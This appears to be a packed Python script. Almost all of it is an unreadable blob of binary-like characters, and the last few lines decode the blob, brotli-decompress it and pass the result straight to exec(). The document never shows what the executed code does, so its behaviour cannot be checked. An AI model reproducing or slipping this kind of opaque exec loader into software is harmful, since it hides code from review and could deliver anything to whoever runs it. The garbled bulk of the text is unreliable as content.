.@S"+C͍4	EJI)F]15fB	=%u:O1b_?,nc}r+ƾ@/[AVt?r}ʁm]{~;ŧIZ'jNEfٯ$/х`u1eU 5߅bȌߺN{Q66ɞ=I8?{?3"GU/z0'ԋ1qԞ]#uѷrN$D}ƅbi҅Ȣ.ĲB0)1ʤ7;o!>Ն|7KU]M$GM6uy)ɲ3ňͶtŗOޙ*Jy~`ZdgUD6ql5̏^(h(xbVٴSՇKURVADurb`[L&$]X$4=8oG7}&?ŽgviQDBR^НAĬŶؠ،.06E}jeCP`w}m1/O_K%0Y*Rp#M,$fƈp#mXx)k}	buR[V8GW]{H9
_#ma͘h>L7PkT&}mB2͒ؼO/c׃5
#سtt8=UIhyyߨw>}! q5a ҾgٌaneE}@I!S_d@XS77Դ,֯,iXQ΅V!(K.rCG*1DB_r Ơ5_A&tӳ[KڋWB\Ko$=.KLċ`߾`'U^kƣiPbԽݜ"2`|?rԙ;Fk)ђuF`C(Ú0^g<˒lsNb=_lΛrÉJ oֿUs?/٬NEŢwUQ
w*(^I#4y&<kJzCC"\18_Ք5xufnEA0W/\$Wb*2WQǦ<pnzn<-7^y`pg6~EqtyGqa .	Lc><d/'Ѳ(ߟv-i_q`7M7VٓA?p@-vkp%kҙBR		B&pu00PZjBuI2c	<u;pԋV;NpdZGͬ+dԩ7/I
S6Ues1ٞ]̾455B
/2kߩ&2/F-Vd@][Sd@ϨZf.Vl	'zi$=P͜Lw+è")zYLcINf'}ډ 9<z"#u9]L-ٍXdĸ>uiJr`*	տƱg*P]!d'bNz>t+ei~iݥ08,^:[-WgQm,ǉ0j.#*U?٣AHMWҘ3w2!k'%;?:4NRXKZepjRTqζ:MMu,p>xȒE6p7mŞ8X-4ZXwdzdgy*jQ'\c+!gSiYX&˃Ŷμ{u܉X)(ԙtT܈0СװXȕעoLVªV,D)`QàIhepYUMa6/OJԿ9-1nvfjĸfKbLN)9qU7ݯT^>O×S7NUPPHt7gD+ubXw?i>nsCv0IXŀTkhҜ[BҎ`̾@؏>ubڊ7{6ό|[iM*pC2>ɧlN)Й֚K=%<_ut5\E"Gތ`wڼڥZ<:N@WXlJHNZbxә$C	*٫neĺgwE)^I4xDĢ$O+5ozm~boN7HչqU	LW߰06:ʬ_԰5+-F0ܐPLl ]_)^gQz:OVvյeCe3.!S3"	R
sD4*[\hvVpjAJuHQtx_grF_H:rԁ2)&\y-,[X?tŷ9^vc+ۯ`?oh%zË'ƟB)eC48a$dDXR_ׯ/%m	q5'Ԣ֔/]8R؉m.NBD0#]CL/B@S:˷Jo$met0j9FT`qș<c"'.\vL3қ$P+ӞsNd$wK=rکuv#F7,)И?@3!J ?u:*=!Z0i'Ȣ'$.`-:Hkh˸:ĺv4e:#)LV<1_2WB+g٧WNKW3ՙr~<ܚNќFmF~טC2@ӇUIΈk$:<:$\A4?h?{uS`ōƍK65YE|2|[1g7#vKD*"C/n{}T!8A(hq\N4fzȺpOqDۭߨqq~Fr׳R0b^#λPʟa3)@+тo()@$BmVݢS8F!1d.i	{o$5_=̔D	D1@I_:ş߷[=ьv!۪oz6i7*;FrFVTǠ.7`!P%z
)jޣ	ƼL*v<&@lAr81Fۓq}6Zߵ"mmwg#>M49v>o:bU	fpS[V*`.%T?9sL7yV@ߌۊŅ`Б¶.*Hkȋ7cH(]fQ%3Tթi%b"[էlyQmBx*Z~Aes^[1lyBÞ4Օ6@OvZ?(9O-sڕSvߘ!CnKDDlG]8q)e%5g0`THe(Ud7-*Bi^/ox6"܉Ԭp&Sܭ7k	 }c&c3mfvw	;=&dr>eN
%3Bpwܚ#MZ,UtX}?זz8=޺÷^@Կߣ.fBacTu8+K}
OOXD@ c@ע`c8v҄!]Kq<]BTn@z˒{ӝ3aB?##?ؙ"?Vi`jʃ)^c%j(_OPfz5&5&[%3z!SQCLySϩ=z	^~naҎOR9_n*qצO/I$r=CVK.!W߾so/F֦9]!Ai%4 Y/Aşj,EV߆gb£؟j1'ldDU=_{o .Qҷj	,3LO/I9Qм²FlG7cnS2Ŀ%ҫǁN[u1"8	OΟtZeՊÐv10a_4|0LxQ]5u֣@iQ;jʶK?8lbpU.|%&sڬ)E^**+ch,3mhՔ{yR*8/Ҧ1Ǆ!']DpGW5$YY}=k߶&4lcfq"s5 ĉ-	2$l^޳&ė{'XeA6_m= 6Z!r8˘ͿXt.loCԋ{'*־tUR	$KR	ے~nҌqlf-rnfr8>vۖ>q$
9Ӯ[%Pw"._B~Uz>7[eKW6dȟ2bۋ	̏"hbwoW0Ԕ:.F	k5=+9&3MΗ6!yr#Iʍ>(,X9^Of`ߕۊxb}(	f[ޭ*c%miX:]=\mȻ;ȷ^5V֛	+	ܙl9/8]|4ˢJRMjɺlptjAɄ>OJa7)S3 y>	z-ݚ	+1T,Z޸Mߍ"c{sH>Ȋƕ($G۝qTٵ÷`XEgX9޶S/>mOhB{s-ƭ+ مKu%vyw֡5C?.|[KPlIڊfNu>|ͅHݹJa·Z2&EmUDVw܏In&n(";0X3K,i*&e.5/UB8ϭ'[G:ՒKՎBVIџe0̈?zFҙ%)J
vÔɛȆ/[h2ƄıAi,HՓ
u_PdnO(äK٣\'v4,T=[ɒL*(pCq)%0}l$ѝ{QDLE߬fР4[Dt/5{nQJ4;Zߕ܃[]-@S0A2m\ek'8Abgć#DLaʮ(475IKg`eو\|)
P'PJCt܊5@V7ֱ'<_n[R3ˍǋ[K$T"M|Pqh<ѪֹY(1hA{*bbT)͆0Zwj2	åPmvy.bWDf,L(]4+?k!T5B<Ũa[]]r~14lR4|Ê	gn)<%>&/>8,'GsVn;^7a#Ţʅ2γ"~?Z˒AN$ʼ0z<[ Zp\vT^7_H6@xԛֳIn,!˪vυJ3;yҹSnWO;`BC>bՄѴ	eXbMtTiԦo*K,CEF>t~moݰ.F/ȟ0SWγ4ti˓nCzZe*ƨΣlO~JRp5
ؒ_\Uܽ!sYEc$+A[3Op͊glƮV`ˑVK4ۅQ"g6!aOAlFӝB3w5IDPX>bݡwS(k:Y,Jb^؞cqsK4QTPH׹CشcN_,! ^:Ml-Q>G,0:Sc0&>G7Hn]s;5ߢݸ<v,R:ޅ'R*QuU2OSp&^Y\7ܥLfIfNBѦxivmoM_v7+Y2^lg ;IcęVK)>>pUc	C45airP/fAcE9lVPNȂ?Qj[.djxYbqծI%)eת
Ϋ@؝ȊsMXy˕q7kU $Nhv[KzfYF% hc<spuɺPvԋWGM93}VT^X
k1e]Upm*eX1x;v?zQ<#q7bx-@Wɴa6aH45[3οnq̗b9˻@mpb&(Z*[s4C؈OD:%wؑS93sBJ2Aͼ`o>KX"m%mުcT3E`.SE:ׂs%Ģ1֖@E}HA5ńuΙ+68p54j#_\?hx=sjaFlw8}<Q1O{/_;MDptC>ba^p΁5.`	
ӱwȎ&S~[D[$?7BuLť5ƫ%ygX	g_ʭ8UgBcxbIPk_P ҹPJ>F+l[̓İͅ:b
5o#7sdѲ	BJkA(NqM?5$ϹUʂ/FP̣!ߞ|[Y/|)Ekz+[w"&ǘLtsוp{ĎI T	=
6\ɦc3@RSQfdZT޼\ԀKSst8@wsXo|ɋq٘G,B ޗ7έ}6ړ
]fPr3Q+7HAv-I`
}G%q7C?fuZi]/7~v32ht1EPAk\)Ty8؝Ɨ>	}(ɨopM8̽aۥBȃTaBea;{
wviLo_QIGBE/b;Cd;/!ݑ%ϺZU(eMt?^-g%	8ȣ/5̽{04јP͍9,a8m}1ܸߴ؃lW^Ahpģ?,OK^nJXp?ԆdKC&.nҏ&l?sqiJm+fUD,'<]şmJ ('Ww49M.A~DIMgWǣVvdbNxw/͘=x!zܸWuARj_Ψ9u~4L=̚׃%;j*/B:Gv5^ޫzZ>}zVPuvCۙBV	+Pm=	!2ީ]"#=k\% nmGɬݚurAY`!aЀlۯƬ?'wedK
/[+#Ifo[|,d(HfIp Ŷ~ʖخ e/>Zl*ضη*]`
ѭP3kqr:Z8XzLy#*y_ڬcyEw
/Ւ3Kx,.2mA3]Mwkx"JQrwroן9bӇ,`Ҩn2}X4<g̥i>0ԖZ&	ľ#tfݥo$g`#wX_E[Xr"·I9CJ*sӇS޴
ղR
f`%_>D[IY3Z ʕn[!;go.q}C.o%Tj҇.!ьXPQyi7A21þ:YwqSNw=̛!aGݔRr/1#n]#Nƥ]իθu>q_ =ί_^#YDVO=ZGn7z0ʥ9dHQ}g1ߞϙ67[CǸ<^Gv[NȖ3\4K&%¿KګTD1ޫ	˅sI;,mUWQܸ[.خ`T9-GwfkIbs6
IECد=vg?wJN)PY׻"6:0C:Ol8Jڇ'^!xk1ƿ5sTǓz%~$[Z\F<_̩hV1bm_ύP[{hBKqlއt!sы*h@FPH	ȉn~AȤ:-kM.v4_g~X.vnBJLӱ]q"l9t}s9`amΔ.MI,R9`)uų*Zw|,T&U:9Cp+Ƿ}ϼX1zau3H{QU-$G9dp75xS"k.Iz
e8QP%d#w	"guOɳ-*}GfWABmU+S
-̀c֐uۄ4}(AjPUǦϓrpZ݊{ޣǁ@QzU|:[oz*HjsΎ_+9zfQy
(k-hOJWq~hȈiIŧ4EJÄ,|?b4y;ݳ
ZGVg/55hX W6>߼.q@o
QTrMZ۶Aۅ2}?FޝYw(bwZ?#mx\4&gjYVՙc/>+άP=\,:-zїIGߴx{g~y01L51'_ҁ2 d>=>A P&/٠1Pԟ0Vj.\+SB݊F]ӽN=i>&6yJɘqX\ xy:\-X#Sپ<Zۏs(pO?okgv[p6XӉtFə_?|'W}IM=>/RۃKTLբK.\k>QG1$¨B(*eĎ,#r_*͍ei8zwEJl:r̷byWRS!(,j!Ps]ؖĴ]2̑[|dCJsOΜbiu2q=+>X-fk@yGF4W)j=h<ϿJ-Df.b=6A.rrʐa$,E;"Kwc ,:C	osFn0
5hEΈ+Ѳ'7ڶL(ivvp"դ׃unG%<.RH_Ndͥs͌4u}ьruj\ezζURY`!ڥ^!9glĳ3ԏ0UUoL'XvZh;zsrytż/a^!/ތ+o6#`&!&"|΂)δj#/'ޙIu)PmwE~<ϒ.&]:S3k7<Uԙ)ё$h]Q7Qt+uUՇrp23Xg!dF
UX+%Ύ+3>ǍDHp?8&afSs׀nEC?6$݌@>\!Bt]UcuHVo-Qݘ~w-vAs5)ll"5t~_ThqFi|ǫxd ]Q>(55"6IilGؔ{Lp2aZEܶ`8B̣yz#h)۬1eJt wFߨ-l
Gр:Enő;אłYQ<u0k])"	(iFAY1oX!Ld8]̒ R͎lޞH)`Sԃv`?XH|APdsߵz̚΢y}'En\rGu):VG%{kOVvc˝A2kOh֯[դ9A9Y~h2@"aPҕEW$4-WwVJ5AJFu#AyGrvpPmwz̯Ëڟʝdҩ+\ԉS/~'[؊ӿ@nIgJ5{.jWc%3i6מeylB*Y2E	J#!8RڥÇ}-*ډRɪW(tUA/ʍ)}=ݒPMGW]t#xM`ݩiЉ5ӲӶM7M.Yv٠R^+,J&
UC_#-4rZއ(@*9*ŬJ;;ءVٜwnϵ
5)eʼJd|f̎]OPxnkfkèZp;FLyL|o:uzt)VIV5ߋ͙dábx=@	ˍG_:8%!2O<!naLs9V%ێڲc`?VrvU{<o7Bvv׷6Wҕ\530;eTGXL5BΆķɨт	>)7>d!JeѶڦqt[ilcr"EUצQ:4&9D!5.5*+G\'pn4[4	bIOR!
Wo1	:
k-z`7D:M2?mfԸUvukڎj075b|a2_5V!1*gtr$xӠZSYjq'7cU9bDr<;inGYhf'4({!U-GQYcv/+pXX,8'2nFߌ_4%;Q"c8"F81p+Пݫ@KѢ`y2ŏW:L2	e]ӡʢi	uYuqkaV*0A]YlRh·O``GJhyTamN(kM:ܼG
{C\T{Zͨ]_p	V5}٢R@Lg?KmW7T~AFMY`l,=D}R[ ]XMK݉x+):c)ZVnT.3-"yo,	aib:T	G%Gyx%3gL6C}B3ȑ֮,u]ȹ&t<lTf{~9Oac2`}UкxmE>]9qϗHʘnpP=nl_GOjX}ךo &Gho '!͊l*ΜtlWf^,ngF֞3[45"z4&nQ)!|vεr
Pd έػcyuzkЅ2Ѥ5מKָxƱomMIEp;KLH#LI߉./ɲ)Wـǃ((Se؝޿\i'*i8+qQHĚgb0z̓zظ4txpV0iwلZw1j|0KnփS?WpBL/ƶ:5F*˗G&Y߮ۦXʹY
-¶D}ڣOa7,%-²`Q$`׆W@qzڅ3aV'%ccGX
}BQ#fo9bt?2+ͶؑXUUCJכG<T/4a<@?n{WÒQXBkf_Ī4պjVGn1%$F69؁ª	E+ҷC5	/}8ƘXj>
L
b@P}LVY/ܨ<uFz	ߡDq )?YQe6w=ǏJP~:ӔRO^(!m*s*_֫¨sx;GY0NL%EY.Ճ'̏(BțV4u.jgn^@}u݁']-DCyI*15RLߎۡ4~B^>ȸL_h;
&#}K4Y];ʬ|us>$o'~E?Ii'hQO@=+Mzxa}^z?nC	B+baժX.s/},
e.̠$Q}`jC\i+ͷ$ScOR9/z-F{xq¢#KɺŤq1pJN/hݟ
uq0!kSwCM/ٳ:f2J(ax~ѥ}ҢX9ϛH''s*Bluhq:*".mfܳu,ٞ"X%^7W/ddM#Јvՙg7KL$&3? OV(5Z$ηţC΁-TBXLE8̙ ׌l)0<qt:Ϡ)"8[Yh1t}̪>T%TzWe_ΓIРK/gft.y/AK
7؃&K/RSt.WkȨ405tϸ
F
,}xlt7i!(mSB|`m_Ezkl'Bʊ3FoQvxUI6a-+;TWK^֡a*vqhʋTHݜia"
ҷ/ԌKژ?p?(˼2TՈ͚׬~8&i[|ʛ­޺<x,!q`;$pkknp`L#Zva}	9ԐİߚlQټB3G!Enpoad.EҪv]ڔʙ`ϘI\ͻhd#	nk/V&.e-<<ɻnN]MU(ڽ&Sơ
|qm&3DϻiR9SHfp&Mӷp,>$
)2\1ͽGWDN̬n)<`WUԭWf8^őu"#eP&.pʧXҸe4/jf%RxZԃ NT	)uqp/luj;SW+
8zl&?\f*S%Ւ@mzXx78-O@ˈs4ՊK
[&(2D# `'J`_OZ75d*9ՎD3_6jT@nAXYRů|,f~Bo2Cb%,`gĕL֚#abBZwӸ`KUC`1Ά`L!<Z~g eGX%@3٧yo\̶YVt$`}Kn04)!xq+ րB~7t|,?ܳi`(ȣBÍwҍ&I-93{m,JPMu+E:#PH%tcFRyBouq)|+/dލ@ xpo
v%ӧu4_0J
l\7	mejh(M6\JA 3;NaԸأ
\ciH$ѶP!;+7rwѴ}$@w
|Ɲw"N_#i3jҕP=rwmϻ^EPEM/r6iV]hYjUx|N`+38<'Ɵ$20wzͰ$ACcMI[DG_9˽}~GBzIɼ<ț} FDKHN,zn61k92ci4ȁkg[Ľ,5~'0cьK:&I2leqGU=exwS',TvCܓr\ô,+/Vܚsepa{SpLv^6bK(k8Zf
"Mf\vo.%	FpH]^[>[b<MdA
B6Zxӡ<SzwF!Z_qj3Nx-#¤VҤ74%UgZv6C-Z)\~%\e)<+nϷ|@S^}bsȢ,N5ЄjOѾ_GK:Ɗ'>Cxfɱ^86]~\n<
EɆЖ2"8sr;8GY:]>E3	0bUF5޻fW@U^|Z7O6j-YH0ޔʂ],ղ}\ UBHig\%Y`O%Ag-@9/D2o|c5V]RBa֘ճ׼@(äEw?_#.V-دǄ#FkfpnigUKI8Ο׊4k؇e7ҝ]{2z1̅¯*9y1ܺo7nX{C̰TcHo<o~ȝPaé&<-4CTL"h?r~ܹ&>mB"8iՄ%?#ɃD3jU?v(Iz-Y7|PuL5gZlfB$lH_In^ØoPAbF4;rE`4z|Y$æ߱v6 1ٙF"(lfi?CpheʉFϐ~+,
G7*Y+oD-՟<eۅl`;8bMBBy%4P	;ĹA1{`&ٓ^ːT9
Xxp(O3	ĝ~j?T'؇@ {4$hZϡS!-FB4C5uKJPIz-mcic=653DW98j`=p%_*
IѰoFtHwѣՁq7fAF*O?b/E[grUYjG֐NZC6խ6yfmp!Ł343qXgZ`s2ˢȋf;-ʣn&GK%zk(хyfT('ђ``x.yoFv#E=\	GM2d
'L²{8r޸X"ؗ}GE&Otz.q.5їP~>\޾
W|5A0žMԹa}*=jW69A".~y28,_ШazzŮNI`$ɿ\M5f/q3R.ru?	hؑUaUt&U:T@&!ڮ19?fwݪ3+cԙgؤ/Ͼnpn%hǔ+U%`aߓT!G|VmLLutNaC,\C|,5iN7hsw
S)o.9
,}]ݳrB:KMo!eUiQtNA)9/@Lvf^ޗdNH%8"qN8T?6flDoZR,b*n?$(OCf!D,SmM0+]DZܞpL
l6GD݇&;ї,ZonmB_p9 $!wؤѼu0ff4&On\V!\/F'mCeQZ3nudqx}ms;@x-0>X#1ǘVHZLJ{<Ԧ@6!ԧ<FJ#ecͨ9ڝ[(߳iwܿ@|m8Σ#ĎYAՀg0Rrr}}Epر(޿B>?ОT6ΨÄP4YK	d}ZǊOɚS%IF įHXYezզ-a]%z9DonZ]߯ČaEz% 
h;3Ы+"ՌOfUdMR:2pc7kׇft/_RIbw115qt7,-8C-G\ی~tA/	~xx+.4sxҤ߮$q,c$AGK_K34S=<IX=NcX&4J^Mj	_ϬyUd<!8u46ց0EǑk#PY6ȼiJ&|!u۟$#j\u
կ9=uyVHiN.׭K>XK8jmt(U`sc(j fb3VVxۃ-6Vb/lY:COɝܶjA7(KV_M=[o3'W-Zaلцg4D2-K9|[#ݚ\oowE'{V[umPWՒaPƤ OZF9̿÷fھUĵ~Ac$dM@Ĵ(ZG+Y$Yd4/Q2%9
҂|jWaJ8͜q>
O؂tdRdMisAPN~%Ō($PIɹl%6(WP ƱQ=`J	ph!W"=F@Ƈ;ga>õ<D	4E<vrɅZʞ3LJm^,vv`v__>+HJ5FBةDgײoւ/t/bro/>vUu^{0ͩ|I3=HJskB]nj(3R`\4WV>?\/9+Z5if~P{N<Q|M=fΈ]gU20a4e7XP(vL_IkZ(ʒTRIvi؁9#6$Ң<4zEr=<y*LKZ?82ʊPG~gzfZo9R9wňj٨zwcNjۿN}jm5OnnTXCK_a}?G*VJGt'F'q1r}Lp)Uyz~Ztox\C;ѥ,ouI:f]ݼFd
mU90DtzV׵ʓJYkgv&ڊbFr1V6LnJsPp)AiٿJДռ],rFc:Pc̺2u|l׹"TN^>gtuY0hm1߅Z''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25291)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
